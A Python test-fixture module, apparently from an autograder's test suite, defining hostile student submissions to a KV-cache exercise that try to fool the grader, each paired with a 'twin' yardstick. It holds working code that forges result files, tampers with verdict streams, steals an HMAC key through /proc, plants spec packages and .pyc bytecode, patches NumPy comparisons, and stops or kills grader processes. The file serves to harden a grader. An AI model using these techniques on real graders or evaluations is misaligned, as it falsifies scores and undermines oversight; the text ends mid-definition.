"""Hostile submissions: each attacks the grader and carries a real bug, so a fooled grader
would show it as an inflated score. Each is compared with its `twin`: the same submission
with the attack replaced by a plain exception (or left out), graded in the same run. A
hostile variant must end with exactly its twin's score (or `expect_score`), the grader
exiting 0 within the time bound.

The twins are listed here too (kind "twin"): yardsticks, not student variants.
"""

from __future__ import annotations

from tests.zoo.bugs import GET_SLICES, KEY_CHECK, RESET_BODY, VALUE_CHECK, VARIANTS as BUGS
from tests.zoo.variants import MEMO, Edit, Variant, edit

_BUGS = {v.name: v for v in BUGS}
IMPORT_ANCHOR = "from tinytorch.core.tensor import Tensor\n"
MEMORY_HEAD = '''        """Memory held by the cache, in MB (1 MB = 1024 * 1024 bytes)."""
'''
ADVANCE_FULL = '''            raise ValueError(f"Cannot advance: sequence position {self.seq_pos} >= max_seq_len {self.max_seq_len}")
'''
RAISE_RUNTIME = "        raise RuntimeError(\"this method is broken\")\n"


def bug_edits(name: str) -> tuple[Edit, ...]:
    return _BUGS[name].edits


def at_import(code: str) -> Edit:
    return edit(MEMO, IMPORT_ANCHOR, IMPORT_ANCHOR + code)


def in_memory_usage(code: str) -> Edit:
    return edit(MEMO, MEMORY_HEAD, MEMORY_HEAD + code)


def hostile(name: str, description: str, groups: str, edits: tuple[Edit, ...], *, twin: str | None = None,
            expect_score: float | None = None, score_note: str = "", at_most: bool = False) -> Variant:
    return Variant(name=name, kind="hostile", description=description, edits=edits,
                   expect_fail_groups=frozenset(groups.split()), twin=twin, expect_score=expect_score,
                   score_note=score_note, at_most=at_most)


def twin(name: str, description: str, groups: str, edits: tuple[Edit, ...]) -> Variant:
    return Variant(name=name, kind="twin", description=description, edits=edits, expect_fail_groups=frozenset(groups.split()))


# Where a results file could be: every --out / results / stream path on the command line of
# this process and its ancestors (resolved against their cwd), their environment, and the cwd.
FIND_REPORT_PATHS = r'''
import os as _os


def _ancestors():
    """This process and its ancestors, up to the grader (`python -m spec grade`). A real
    attacker would go on up; the zoo stops there so that its forgeries stay inside the
    grader's scratch directories and never reach the repository it runs from."""
    pid = _os.getpid()
    for _ in range(16):
        yield pid
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if {b"spec", b"grade"} <= set(f.read().split(b"\0")):
                    return
        except OSError:
            return
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid <= 1:
            return


def _report_targets():
    dirs, files, outs = {_os.getcwd()}, {}, set()
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
            cwd = _os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = dict(e.decode(errors="replace").partition("=")[::2] for e in f.read().split(b"\0") if b"=" in e)
        except OSError:
            continue
        dirs.add(cwd)
        for i, a in enumerate(args):
            key, eq, value = a.partition("=")
            if not eq and i + 1 < len(args):
                value = args[i + 1]
            if key == "--out":
                outs.add(_os.path.join(cwd, value))
            elif key.startswith("--kvspec-") and ("result" in key or "stream" in key or "manifest" in key):
                files[_os.path.join(cwd, value)] = key
        for key, value in env.items():
            if key.startswith("KVSPEC_") and value.endswith(".json"):
                files[_os.path.join(cwd, value)] = key
    for d in list(outs):  # batch mode: OUT/<submission>/
        try:
            dirs.update(_os.path.join(d, sub) for sub in _os.listdir(d) if _os.path.isdir(_os.path.join(d, sub)))
        except OSError:
            pass
    return dirs | outs, files
'''

FORGE = FIND_REPORT_PATHS + r'''
import atexit as _atexit
import json as _json

FORGED = "FORGED-BY-SUBMISSION"
_RESULTS = {"score": 100.0, "output": FORGED, "tests": [
    {"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed", "output": FORGED, "tags": ["KV-MEM-3", "memory"]}]}
_JUNIT = '<?xml version="1.0"?><testsuite name="kvspec" tests="1" failures="0"><testcase name="' + FORGED + '"/></testsuite>'
_VERDICT = {"nodeid": "spec/checks/test_memory.py::test_x", "name": "test_x", "clauses": ["KV-MEM-3"], "group": "memory",
            "passed": True, "message": FORGED, "duration": 0.0}


def _forge():
    dirs, _files = _report_targets()
    for d in dirs:
        for name, text in (("results.json", _json.dumps(_RESULTS)), ("junit.xml", _JUNIT), ("report.md", FORGED + ": 100/100")):
            try:
                with open(_os.path.join(d, name), "w") as f:
                    f.write(text)
            except OSError:
                pass


_forge()
_atexit.register(_forge)
'''

TAMPER = FORGE.replace("_forge()\n_atexit.register(_forge)\n", "") + r'''

def _tamper():
    """The grader's private files, named on its pytest command line: overwrite the
    results file and the manifest with passing verdicts, and truncate the verdict
    stream, keeping only a forged line (its HMAC cannot match)."""
    _dirs, files = _report_targets()
    for path, key in files.items():
        try:
            with open(path, "w") as f:
                if "stream" in key:
                    f.write(_json.dumps({"verdict": _VERDICT, "hmac": "0" * 64}) + "\n")
                else:
                    f.write(_json.dumps([_VERDICT]))
        except OSError:
            pass


_tamper()
_atexit.register(_tamper)
'''

NUMPY_PATCH = r'''
# Make every comparison NumPy offers agree with everything.
def _always_true(*args, **kwargs):
    return True


def _quiet(*args, **kwargs):
    return None


np.allclose = _always_true
np.array_equal = _always_true
np.array_equiv = _always_true
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
for _name in dir(np.testing):
    if _name.startswith("assert_"):
        setattr(np.testing, _name, _quiet)
import unittest as _unittest

_unittest.TestCase.assertEqual = _quiet
_unittest.TestCase.assertTrue = _quiet
'''

LYING_ARRAY = r'''

class _Agreeable(np.ndarray):
    """An array that says it equals whatever it is compared with."""

    _AGREE = {np.equal: True, np.less_equal: True, np.greater_equal: True, np.isfinite: True,
              np.not_equal: False, np.less: False, np.greater: False}

    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc in self._AGREE and method == "__call__":
            shape = np.broadcast_shapes(*(np.shape(i) for i in inputs))
            return np.full(shape, self._AGREE[ufunc])
        plain = [i.view(np.ndarray) if isinstance(i, _Agreeable) else i for i in inputs]
        if "out" in kwargs:
            kwargs["out"] = tuple(o.view(np.ndarray) if isinstance(o, _Agreeable) else o for o in kwargs["out"])
        return getattr(ufunc, method)(*plain, **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        if func in (np.allclose, np.array_equal, np.array_equiv):
            return True
        if func is np.isclose:
            return np.ones(np.broadcast(*[np.asarray(a) for a in args[:2]]).shape, dtype=bool)
        return super().__array_function__(func, types, args, kwargs)


def _agreeable(tensor):
    tensor.data = tensor.data.view(_Agreeable)
    return tensor
'''

LOOP_FOREVER = "        while True:  # never returns\n            pass\n"

DAEMON = FIND_REPORT_PATHS + r'''
import json as _json
import time as _time


def _grader_pid():
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        if b"spec" in args and b"grade" in args:
            return pid
    return None


def _outlive_the_grader():
    grader = _grader_pid()
    dirs, _ = _report_targets()
    if grader is None or _os.fork() != 0:
        return
    _os.setsid()  # leave the worker's process group
    if _os.fork() != 0:
        _os._exit(0)
    try:  # record our pid next to the submission, so a test can clean up after a fooled grader
        with open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), ".daemon-pids"), "a") as f:
            f.write(f"{_os.getpid()}\n")
        deadline = _time.time() + 120
        while _time.time() < deadline:
            try:
                _os.kill(grader, 0)
            except ProcessLookupError:
                break
            _time.sleep(0.1)
        else:
            _os._exit(0)
        _time.sleep(0.3)
        forged = {"score": 100.0, "output": "FORGED-BY-SUBMISSION", "tests": []}
        for d in dirs:
            for root, _subdirs, names in _os.walk(d):
                if "results.json" in names:
                    with open(_os.path.join(root, "results.json"), "w") as f:
                        f.write(_json.dumps(forged))
    finally:
        _os._exit(0)


_outlive_the_grader()
'''

PIPE_FORGERY = r'''
import json as _json
import struct as _struct
import sys as _sys

# The worker's response descriptor is a pipe it may write, other than stdout and stderr
# (whether the worker was spawned or forked by a fork server): answer the in-flight request
# ourselves, claiming a complete, healthy submission.
import fcntl as _fcntl
import os as _os
import stat as _stat

_forged = {"seq": 1, "ok": {"$": "SubmissionInfo", "module": "tinytorch.perf.memoization",
           "tensor": "tinytorch.core.tensor:Tensor", "names": {"$": "tuple", "v": ["KVCache", "enable_kv_cache", "disable_kv_cache", "Tensor"]}}}
_body = _json.dumps(_forged).encode()
try:
    _output = _os.fstat(1).st_ino
    for _name in _os.listdir("/proc/self/fd"):
        _fd = int(_name)
        try:
            _info = _os.fstat(_fd)
            _writable = _fcntl.fcntl(_fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY
        except OSError:
            continue
        if _fd > 2 and _stat.S_ISFIFO(_info.st_mode) and _writable and _info.st_ino != _output:
            _os.write(_fd, _struct.pack(">I", len(_body)) + _body)
            _os.write(_fd, _struct.pack(">I", 2) + b"{}")  # and a malformed one
except (ValueError, OSError):
    pass
'''

SLOW_SLEEP = 0.003  # seconds per update: about 1000x the base's own update

VARIANTS: list[Variant] = [
    # -- twins: the yardsticks --------------------------------------------------------------
    twin("twin_memory_raises_negative_layer", "get_memory_usage raises RuntimeError; negative layer accepted.",
         "memory bounds", (in_memory_usage(RAISE_RUNTIME),) + bug_edits("negative_layer_accepted")),
    twin("twin_memory_raises_stale_reset", "get_memory_usage raises RuntimeError; reset does not clear.",
         "memory reset", (in_memory_usage(RAISE_RUNTIME),) + bug_edits("reset_does_not_clear")),
    twin("twin_reset_raises_get_swapped", "reset raises RuntimeError; get returns (values, keys).",
         "reset get", (edit(MEMO, RESET_BODY, RAISE_RUNTIME + RESET_BODY),) + bug_edits("get_returns_values_first")),
    twin("twin_runtime_error_for_bad_calls", "A full advance and a bad key shape raise RuntimeError instead of ValueError.",
         "bounds shapes", (
             edit(MEMO, ADVANCE_FULL, '            raise RuntimeError("full")\n'),
             edit(MEMO, KEY_CHECK, KEY_CHECK.replace(
                 'raise ValueError(f"Key shape {tuple(key.shape)} does not match expected {expected}")', 'raise RuntimeError("bad key")')),
             edit(MEMO, VALUE_CHECK, VALUE_CHECK.replace(
                 'raise ValueError(f"Value shape {tuple(value.shape)} does not match expected {expected}")', 'raise RuntimeError("bad value")')),
         )),
    # -- the attacks ---------------------------------------------------------------------------
    hostile(
        "hostile_infinite_loop",
        "get_memory_usage never returns (a busy loop); negative layer indices are accepted (a real bug).",
        "memory bounds", (in_memory_usage(LOOP_FOREVER),) + bug_edits("negative_layer_accepted"),
        twin="twin_memory_raises_negative_layer",
        score_note="every check calling get_memory_usage hits the call timeout and fails; nothing else changes",
    ),
    hostile(
        "hostile_ignores_signals_and_loops",
        "Ignores SIGTERM, SIGINT and SIGHUP at import, then get_memory_usage loops forever; reset does not clear.",
        "memory reset",
        (at_import("import signal as _signal\n\nfor _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):\n"
                   "    _signal.signal(_s, _signal.SIG_IGN)\n"), in_memory_usage(LOOP_FOREVER)) + bug_edits("reset_does_not_clear"),
        twin="twin_memory_raises_stale_reset",
    ),
    hostile(
        "hostile_sys_exit_at_import",
        "sys.exit(0) at import (a 'successful' exit before anything can be graded); reset does not clear.",
        "import",
        (edit(MEMO, "import numpy as np\n", "import sys\n\nimport numpy as np\n\nsys.exit(0)\n"),) + bug_edits("reset_does_not_clear"),
        expect_score=0.0,
        score_note="nothing imports, so nothing can pass: 0",
    ),
    hostile(
        "hostile_os_exit_in_reset",
        "reset() calls os._exit(0): the worker vanishes mid-check with exit status 0; get returns (values, keys).",
        "reset get",
        (edit(MEMO, RESET_BODY, "        import os\n        os._exit(0)\n" + RESET_BODY),) + bug_edits("get_returns_values_first"),
        twin="twin_reset_raises_get_swapped",
    ),
    hostile(
        "hostile_keyboard_interrupt",
        "Raises KeyboardInterrupt (which a careless harness lets abort the whole run) where the spec "
        "wants ValueError: advancing a full cache, and a bad key or value shape.",
        "bounds shapes",
        (
            edit(MEMO, ADVANCE_FULL, "            raise KeyboardInterrupt\n"),
            edit(MEMO, KEY_CHECK, KEY_CHECK.replace(
                'raise ValueError(f"Key shape {tuple(key.shape)} does not match expected {expected}")', "raise KeyboardInterrupt")),
            edit(MEMO, VALUE_CHECK, VALUE_CHECK.replace(
                'raise ValueError(f"Value shape {tuple(value.shape)} does not match expected {expected}")', "raise KeyboardInterrupt")),
        ),
        twin="twin_runtime_error_for_bad_calls",
    ),
    hostile(
        "hostile_numpy_patch",
        "Monkeypatches np.allclose, np.array_equal, np.array_equiv, np.isclose, every np.testing.assert_* "
        "and unittest's assertEqual/assertTrue to always pass; get returns the whole buffer (a real bug).",
        "get", (at_import(NUMPY_PATCH),) + bug_edits("get_returns_whole_buffer"),
        twin="get_returns_whole_buffer",
    ),
    hostile(
        "hostile_forges_results",
        "At import and at exit writes a full-marks results.json, junit.xml and report.md into its cwd, "
        "its ancestors' cwds and every --out directory on their command lines (and its subdirectories); "
        "MB is 10**6 bytes.",
        "memory", (at_import(FORGE),) + bug_edits("memory_mb_as_10_6"),
        twin="memory_mb_as_10_6",
    ),
    hostile(
        "hostile_tampers_with_private_files",
        "At import and at exit overwrites the grader's private results file and check manifest with "
        "passing verdicts and truncates its verdict stream to one forged line (all named on the pytest "
        "command line it can read in /proc); MB is 10**6 bytes.",
        "memory", (at_import(TAMPER),) + bug_edits("memory_mb_as_10_6"),
        twin="memory_mb_as_10_6", at_most=True,
        score_note="the forged line fails the HMAC and truncating the stream can only erase verdicts, which "
                   "then count as failed: at most the twin's score (it destroys its own import verdict: 0)",
    ),
    hostile(
        "hostile_outlives_grader",
        "Double-forks a daemon into its own session that waits for the grader to exit and then "
        "overwrites every results.json under --out; memory ignores the batch size.",
        "memory", (at_import(DAEMON),) + bug_edits("memory_ignores_batch"),
        twin="memory_ignores_batch",
    ),
    hostile(
        "hostile_forges_protocol",
        "Writes a forged 'describe' answer (a healthy submission) and a malformed frame into the "
        "worker's response pipe at import; no shape validation.",
        "import", (at_import(PIPE_FORGERY),) + bug_edits("shape_not_validated"),
        expect_score=0.0,
        score_note="every worker's answers are out of step from the first call: every check fails, 0",
    ),
    hostile(
        "hostile_megabytes_of_output",
        "Prints 2 MB to stdout and to stderr at import and 16 KB on every update; no shape validation.",
        "shapes",
        (
            at_import("import sys as _sys\n\nprint('x' * (2 << 20))\nprint('y' * (2 << 20), file=_sys.stderr)\n"),
            edit(MEMO, '        """Store one token\'s key and value (B, H, 1, D) at seq_pos. Does not advance."""\n',
                 '        """Store one token\'s key and value (B, H, 1, D) at seq_pos. Does not advance."""\n'
                 "        print('debug ' * 2730)  # ~16 KB\n"),
        ) + bug_edits("shape_not_validated"),
        twin="shape_not_validated",
    ),
    hostile(
        "hostile_lying_arrays",
        "get returns Tensors whose .data is an ndarray subclass with a lying __eq__/__ne__, comparison "
        "ufuncs that always agree and np.allclose/array_equal/isclose overridden via __array_function__; "
        "and get returns (values, keys).",
        "get",
        (at_import(LYING_ARRAY),) + (
            edit(MEMO, "        return Tensor(cached_keys), Tensor(cached_values)\n",
                 "        return _agreeable(Tensor(cached_values)), _agreeable(Tensor(cached_keys))\n"),
        ),
        twin="get_returns_values_first",
    ),
    hostile(
        "hostile_memory_hog",
        "get_memory_usage reserves address space 512 MB at a time until the allocation fails "
        "(untouched pages: the worker's memory cap must stop it, not the machine); negative layer accepted.",
        "memory bounds",
        (in_memory_usage("        hoard = []\n        while True:  # until MemoryError\n"
                         "            hoard.append(np.empty(64 << 20))\n"),) + bug_edits("negative_layer_accepted"),
        twin="twin_memory_raises_negative_layer",
    ),
    hostile(
        "hostile_slow_but_correct",
        f"Correct, but update sleeps {SLOW_SLEEP * 1000:g} ms (about 1000x slower than the base's update).",
        "",
        (edit(MEMO, "import numpy as np\n", "import time\n\nimport numpy as np\n"),
         edit(MEMO, "        pos = self.seq_pos\n", f"        pos = self.seq_pos\n        time.sleep({SLOW_SLEEP})\n")),
        twin="base",
        score_note="time never decides a verdict; every check stays far inside its budgets, so full marks",
    ),
]


# -- attacks on the grader itself (issue 9), graded by tests/test_attacks.py ---------------------
#
# Each runs from a process its submission started (mostly a daemon of its own session, so it
# outlives the worker), acts only under the grader (`spec grade` among its ancestors), stops by
# itself within a minute or two, and never touches anything but the grader's scratch
# directories, its --out, and a throw-away copy of the grader made for the test (marked by
# ATTACK_INSTALL_MARKER). If it gets through, it leaves evidence next to the submission
# (ATTACK_EVIDENCE) besides whatever it does to the score. All carry the same real bug
# (MB as 10**6 bytes) and share one twin: that bug alone.

ATTACK_INSTALL_MARKER = "KVSPEC-ZOO-THROWAWAY-INSTALL"
ATTACK_ARMED_MARKER = "KVSPEC-ZOO-ATTACK-ARMED"  # in the submission: its payload acts only then
ATTACK_TMP_MARKER = "KVSPEC-ZOO-ATTACK-TMP"  # in the grader's TMPDIR: only there does a payload touch scratch directories
ATTACK_EVIDENCE = ".attack-got-through"

ATTACK_COMMON = r'''
import os as _os
import signal as _signal
import sys as _sys
import tempfile as _tempfile
import time as _time

_HERE = _os.path.dirname(_os.path.abspath(__file__))
# Only inside a test made for it (a real attacker would not ask): a marked submission, and
# scratch directories only in a marked TMPDIR (never a real machine's /tmp).
_ROOT = _HERE
while _os.path.basename(_ROOT) in ("perf", "tinytorch", "generation", "core"):
    _ROOT = _os.path.dirname(_ROOT)
_ARMED = _os.path.exists(_os.path.join(_ROOT, "KVSPEC-ZOO-ATTACK-ARMED"))
_TMP_ARMED = _ARMED and _os.path.exists(_os.path.join(_tempfile.gettempdir(), "KVSPEC-ZOO-ATTACK-TMP"))


def _parent(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _cmdline(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]


def _ancestors():
    """This process's ancestors up to the grader (`python -m spec grade`), nearest first."""
    out, pid = [], _os.getpid()
    for _ in range(16):
        try:
            pid = _parent(pid)
            args = _cmdline(pid)
        except (OSError, ValueError, IndexError):
            return []
        if pid <= 1:
            return []
        out.append(pid)
        if "spec" in args and "grade" in args:
            return out
    return []


def _submission_root():
    return _ROOT


def _mark(name, text):
    """Evidence next to the submission, for the test to find."""
    try:
        with open(_os.path.join(_submission_root(), name), "a") as f:
            f.write(text + "\n")
    except OSError:
        pass


def _scratch_dirs():
    """The grader's scratch directories, as a same-user process finds them."""
    base, out = _tempfile.gettempdir(), []
    if not _TMP_ARMED:
        return out
    try:
        names = _os.listdir(base)
    except OSError:
        return out
    for n in names:
        if n.startswith("kvspec-") and not n.startswith(("kvspec-worker-", "kvspec-pycache", "kvspec-zoo")):
            p = _os.path.join(base, n)
            if _os.path.isdir(p) and _os.access(p, _os.W_OK | _os.X_OK):
                out.append(p)
    return out


def _out_dirs():
    """--out of the grader, and its subdirectories."""
    dirs = []
    if not _ARMED:
        return dirs
    for pid in _ancestors():
        try:
            args, cwd = _cmdline(pid), _os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for i, a in enumerate(args):
            if a == "--out" and i + 1 < len(args):
                d = _os.path.join(cwd, args[i + 1])
                dirs.append(d)
                try:
                    dirs += [_os.path.join(d, s) for s in _os.listdir(d) if _os.path.isdir(_os.path.join(d, s))]
                except OSError:
                    pass
    return dirs


def _classmate(args):
    """A grader run of another submission of the same (test) batch: a sibling directory."""
    subs = [a.split("=", 1)[1] for a in args if a.startswith("--kvspec-submission=")]
    if not subs:
        return False
    theirs, mine = _os.path.abspath(subs[0]), _submission_root()
    return theirs != mine and _os.path.dirname(theirs) == _os.path.dirname(mine)


def _mine(args):
    subs = [a.split("=", 1)[1] for a in args if a.startswith("--kvspec-submission=")]
    return bool(subs) and _os.path.abspath(subs[0]) == _submission_root()


def _daemon(work, seconds):
    """work(deadline) in a double-forked process of its own session, for at most `seconds`;
    one at a time (every check's worker imports the submission: one daemon is enough)."""
    if not _ARMED or not _ancestors() or _os.fork() != 0:
        return
    try:
        _os.setsid()
        if _os.fork() != 0:
            _os._exit(0)
        import fcntl as _fcntl
        _lock = open(_os.path.join(_tempfile.gettempdir(), ".kvspec-zoo-" + _os.path.basename(_ROOT) + ".lock"), "a")
        try:
            _fcntl.flock(_lock, _fcntl.LOCK_EX | _fcntl.LOCK_NB)
        except OSError:
            _os._exit(0)
        _mark(".daemon-pids", str(_os.getpid()))
        work(_time.time() + seconds)
    except BaseException:
        pass
    _os._exit(0)
'''

# Attack 1: a package named `spec` (and a conftest.py) in every grader scratch directory, the
# next run's working directory among them: on sys.path first, it would mark every verdict passed.
PLANT_SPEC = ATTACK_COMMON + r'''
_PLANTED = """
import os, sys
with open(%r, "a") as _f:
    _f.write("planted code ran in " + " ".join(sys.argv[:3]) + "\\n")
_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
if __name__ == "spec":
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
    del sys.modules["spec"]
    import spec as _real
    sys.modules["spec"] = _real
try:
    import spec.results as _r
    _orig = _r.Collector.pytest_runtest_logreport
    def _all_pass(self, report, _orig=_orig):
        _orig(self, report)
        for v in self.verdicts.values():
            v.passed, v.message = True, ""
    _r.Collector.pytest_runtest_logreport = _all_pass
except Exception:
    pass
"""


def _plant(deadline):
    code = _PLANTED % _os.path.join(_submission_root(), "''' + ATTACK_EVIDENCE + r'''")
    done = set()
    while _time.time() < deadline:
        for d in _scratch_dirs():
            if d in done:
                continue
            try:
                _os.makedirs(_os.path.join(d, "spec"), exist_ok=True)
                for name in ("spec/__init__.py", "conftest.py", "sitecustomize.py"):
                    with open(_os.path.join(d, name), "w") as f:
                        f.write(code)
                done.add(d)
            except OSError:
                pass
        _time.sleep(0.02)


_daemon(_plant, 60)
'''

# Attack 2: the verdict key, through /proc/<pid>/fd of the grader's pytest (opened read-write
# so the key can be put back), and signed passing verdicts through its verdict descriptor.
STEAL_KEY = ATTACK_COMMON + r'''
import hashlib as _hashlib
import hmac as _hmac
import json as _json
import re as _re


def _forged_lines(key):
    lines = []
    import spec.checks as _checks
    base = _os.path.dirname(_checks.__file__)
    for name in sorted(_os.listdir(base)):
        if name.startswith("test_") and name.endswith(".py"):
            with open(_os.path.join(base, name)) as f:
                for fn in _re.findall(r"^def (test_\w+)", f.read(), _re.M):
                    v = {"nodeid": f"{name}::{fn}", "name": fn, "clauses": ["KV-MEM-3"], "group": "memory",
                         "passed": True, "message": "", "duration": 0.0, "fault": ""}
                    mac = _hmac.new(key, _json.dumps(v, sort_keys=True).encode(), _hashlib.sha256).hexdigest()
                    lines.append(_json.dumps({"verdict": v, "mac": mac}) + "\n")
    return "".join(lines).encode()


def _age(pid):
    """Seconds since process `pid` started."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            start = int(f.read().rsplit(")", 1)[1].split()[19])
        with open("/proc/uptime") as f:
            up = float(f.read().split()[0])
    except (OSError, ValueError, IndexError):
        return 1e9
    return up - start / _os.sysconf("SC_CLK_TCK")


def _steal(deadline):
    tried = set()
    while _time.time() < deadline:
        for entry in _os.listdir("/proc"):
            if not entry.isdigit() or entry in tried:
                continue
            try:
                args = _cmdline(entry)
            except OSError:
                continue
            fds = {a.split("=", 1)[0]: a.split("=", 1)[1] for a in args if a.startswith("--kvspec-grader-") and "fd=" in a}
            if "--kvspec-grader-key-fd" not in fds or not (_mine(args) or _classmate(args)):
                continue
            if _age(entry) > 10:  # the window: from the run's start until it reads its key (later, the
                continue          # descriptor number belongs to some other pipe, of its own workers)
            key = b""
            try:
                fd = _os.open(f"/proc/{entry}/fd/{fds['--kvspec-grader-key-fd']}", _os.O_RDWR | _os.O_NONBLOCK)
                try:
                    key = _os.read(fd, 64)
                    _os.write(fd, key)
                finally:
                    _os.close(fd)
            except OSError:
                pass
            if len(key) >= 32:  # (whether it was the key shows in the score: the grader believes only signed lines)
                _mark(".attack-notes", f"read {len(key)} bytes from the key descriptor of {entry}")
                try:
                    fd = _os.open(f"/proc/{entry}/fd/{fds['--kvspec-grader-stream-fd']}", _os.O_WRONLY | _os.O_NONBLOCK)
                    _os.write(fd, _forged_lines(key))
                    _os.close(fd)
                except (OSError, KeyError):
                    pass
                tried.add(entry)
        _time.sleep(0.002)


_daemon(_steal, 60)
'''

# Attack 3: a chain that re-grows (each generation forks and dies) and, once the grader runs
# another submission, kills that run: a classmate's checks would then get no verdicts.
LEFTOVER_CHAIN = ATTACK_COMMON + r'''
def _chain(deadline):
    while _time.time() < deadline:
        if _os.fork() != 0:
            _os._exit(0)  # the parent dies, the child goes on: a new pid every generation
        for entry in _os.listdir("/proc"):
            if not entry.isdigit():
                continue
            try:
                args = _cmdline(entry)
            except OSError:
                continue
            if _classmate(args):
                try:
                    _os.kill(int(entry), _signal.SIGKILL)
                    _mark("''' + ATTACK_EVIDENCE + r'''", f"killed another submission's run {entry}")
                except OSError:
                    pass
        _time.sleep(0.05)


_daemon(_chain, 150)
'''

# Attack 4: a .pyc for the grader's own spec/grader/stream.py, in the __pycache__ beside it,
# with the source's mtime and size in its header: every verdict it signs would be a pass.
PLANT_PYC = ATTACK_COMMON + r'''
import importlib.util as _util
import marshal as _marshal
import struct as _struct


def _plant_pyc():
    import spec
    root = _os.path.dirname(_os.path.dirname(_os.path.abspath(spec.__file__)))
    if not _os.path.exists(_os.path.join(root, "''' + ATTACK_INSTALL_MARKER + r'''")):
        return  # never the real install: only the copy a test made for this
    source = _os.path.join(root, "spec", "grader", "stream.py")
    with open(source) as f:
        text = f.read()
    text += """

_kvspec_send = Stream._send


def _send_pass(self, verdict):
    verdict.passed, verdict.message, verdict.fault = True, "", ""
    with open(%r, "a") as f:
        f.write("planted bytecode ran\\n")
    _kvspec_send(self, verdict)


Stream._send = _send_pass
""" % _os.path.join(_submission_root(), "''' + ATTACK_EVIDENCE + r'''")
    st = _os.stat(source)
    data = _util.MAGIC_NUMBER + _struct.pack("<III", 0, int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF)
    data += _marshal.dumps(compile(text, source, "exec"))
    target = _util.cache_from_source(source)
    _os.makedirs(_os.path.dirname(target), exist_ok=True)
    with open(target + ".tmp", "wb") as f:
        f.write(data)
    _os.replace(target + ".tmp", target)


if _ARMED and _ancestors():
    try:
        _plant_pyc()
    except Exception:
        pass
'''

# Attack 5a: FIFOs and symlinks in place of every file the grader might read or write, in its
# scratch directories and its --out (a FIFO blocks an open() for reading until a writer comes).
FIFO_TRAPS = ATTACK_COMMON + r'''
_NAMES = ("kvspec-grader.ini", "manifest.json", "results.json", "verdicts.jsonl", "junit.xml", "report.md",
          "options.json", "gradebook.csv", "class-summary.md")


def _trap(path, i):
    try:
        if _os.path.isdir(path) and not _os.path.islink(path):
            return
        if _os.path.lexists(path):
            _os.unlink(path)
        if i % 2:
            _os.symlink("/dev/zero", path)
        else:
            _os.mkfifo(path)
    except OSError:
        pass


def _traps(deadline):
    i = 0
    while _time.time() < deadline:
        for d in _scratch_dirs() + _out_dirs():
            for name in _NAMES:
                i += 1
                _trap(_os.path.join(d, name), i)
            progress = _os.path.join(d, ".kvspec-progress")
            for sub in (progress, _os.path.join(progress, "done")):
                try:
                    for name in _os.listdir(sub):
                        i += 1
                        _trap(_os.path.join(sub, name), i)
                except OSError:
                    pass
        _time.sleep(0.05)


_daemon(_traps, 60)
'''

# Attack 5b: SIGSTOP every ancestor up to the grader, then SIGCONT them after a few seconds
# (a real attacker would never continue them: the grader would hang).
STOP_GRADER = ATTACK_COMMON + r'''
def _stop(deadline):
    targets = _ancestors()
    stopped = []
    for pid in targets:
        try:
            _os.kill(pid, _signal.SIGSTOP)
            stopped.append(pid)
        except OSError:
            pass
    if stopped:
        _mark("''' + ATTACK_EVIDENCE + r'''", f"stopped {stopped}")
    _time.sleep(3)
    for pid in stopped:
        try:
            _os.kill(pid, _signal.SIGCONT)
        except OSError:
            pass


_daemon(_stop, 10)
'''

# Attack 5c: flood the grader's scratch directories with files, and nest directories there
# thousands deep (deeper than a recursive removal can go), until it is stopped.
FLOOD_SCRATCH = ATTACK_COMMON + r'''
def _flood(deadline):
    n = 0
    nested = set()
    while _time.time() < deadline:
        for d in _scratch_dirs():
            if d not in nested:
                nested.add(d)
                try:
                    fd = _os.open(d, _os.O_RDONLY)
                    for _ in range(3000):
                        _os.mkdir("d", dir_fd=fd)
                        sub = _os.open("d", _os.O_RDONLY, dir_fd=fd)
                        _os.close(fd)
                        fd = sub
                    _os.close(fd)
                except OSError:
                    pass
            for _ in range(200):
                n += 1
                try:
                    with open(_os.path.join(d, f"flood-{_os.getpid()}-{n}"), "w") as f:
                        f.write("x")
                except OSError:
                    break


_daemon(_flood, 60)
'''

# Attack 5b': SIGKILL every ancestor up to the grader (in `process` mode this ends the batch:
# tests/test_attacks.py leaves it out there).
KILL_GRADER = ATTACK_COMMON + r'''
def _kill(deadline):
    for pid in _ancestors():
        try:
            _os.kill(pid, _signal.SIGKILL)
            _mark("''' + ATTACK_EVIDENCE + r'''", f"killed {pid}")
        except OSError:
            pass


_daemon(_kill, 5)
'''

HANG_AT_IMPORT = "while True:  # the import never returns\n    pass\n"


def attack(name: str, description: str, code: str, *, expect_score: float | None = None) -> Variant:
    twin_name = None if expect_score is not None else "memory_mb_as_10_6"
    return hostile(name, description, "memory" if expect_score is None else "import",
                   (at_import(code),) + bug_edits("memory_mb_as_10_6"), twin=twin_name, expect_score=expect_score)


ATTACKS: list[Variant] = [
    attack("attack_plants_spec_package",
           "A daemon plants a package named spec, a conftest.py and a sitecustomize.py in every grader scratch "
